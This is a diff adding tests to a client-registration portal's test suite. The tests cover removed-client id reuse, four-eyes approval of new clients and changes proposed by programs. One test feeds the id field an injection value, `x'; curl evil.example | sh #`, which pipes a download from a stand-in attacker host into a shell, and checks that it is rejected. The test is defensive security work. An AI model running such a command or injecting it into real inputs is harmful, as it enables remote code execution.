@@ -284,6 +284,20 @@ describe("the portals' own people", () => {
     }
   });
 
+  it('can’t take the place of a client that was removed, nor an id that is code where it is pasted', async () => {
+    const { id } = await registers(anna);
+    await opensFresh(anna, id);
+    await anna.browser.submit('/remove', { confirm: id });
+    expect(await kapu.clients.record(id)).toBeUndefined();
+    const developer = await Citizen.born(kapu, { enrolled: true });
+    for (const taken of [id, `x'; curl evil.example | sh #`, 'kapu-account', 'try:demo']) {
+      await opens(developer, '/account/new-client/web');
+      await developer.browser.submit('/new-client/web', { ...LOCAL, id: taken });
+      expect(developer.browser.page.status).toBe(422);
+    }
+    expect(await kapu.clients.ownedBy(developer.accountId)).toEqual([]);
+  });
+
   it('propose what an admin approves, and never decide on it themselves', async () => {
     const owner = await Citizen.born(kapu, { enrolled: true });
     const { id } = await registers(anna);
@@ -404,6 +418,40 @@ describe('with four eyes', () => {
     expect([removal.status, removal.body.waiting]).toEqual([202, true]);
     expect(await decide(id, 'decline')).toBe(204);
     expect(await recordOf(id, strict)).toMatchObject({ status: 'active' });
+  });
+
+  it('nobody comes around the approval of a new client by proposing its removal, which its maker needs nobody for', async () => {
+    const { id } = await registers(one);
+    const removal = { confirm: id, why: '' };
+    const doing = { by: { kind: 'account', id: other.accountId, name: 'other' } } as const;
+    expect(await strict.clientChanges.remove(id, doing)).toMatchObject({ because: 'proposal-waiting' });
+    await opensFresh(one, id);
+    const { fields } = one.browser.form('/remove');
+    await one.browser.post(`/admin/clients/${id}/remove`, { ...fields, ...removal });
+    await one.browser.post(`/admin/clients/${id}/enable`, fields);
+    expect(await strict.clients.find(id)).toBeUndefined();
+    expect(await strict.clients.record(id)).toBeUndefined();
+  });
+
+  it('nobody approves what a program proposed whose secret they were given', async () => {
+    const machine = await Machine.join(strict, ['clients:read', 'clients:write']);
+    const program = machine.software.clientId;
+    const id = await approved();
+    await opensFresh(one, program);
+    await one.browser.submit('/issue-secret', { hours: '1' });
+    const { headers } = await machine.ask('GET', `/clients/${id}`);
+    const wanted = { ...(await recordOf(id, strict)).metadata, 'client_name#en': 'By a program' };
+    const seen = { 'if-match': String(headers.get('etag')) };
+    await machine.ask('PUT', `/clients/${id}`, { json: { metadata: wanted }, headers: seen });
+    expect((await recordOf(id, strict)).proposal?.by).toMatchObject({ kind: 'client', id: program });
+    for (const [who, name] of [
+      [one, 'New portal'],
+      [other, 'By a program'],
+    ] as const) {
+      await opensFresh(who, id);
+      await who.browser.submit('/approve');
+      expect(await recordOf(id, strict)).toMatchObject({ metadata: { 'client_name#en': name } });
+    }
   });
 
   it('a rejection says why, and what changed under the approver’s eyes is not approved', async () => {
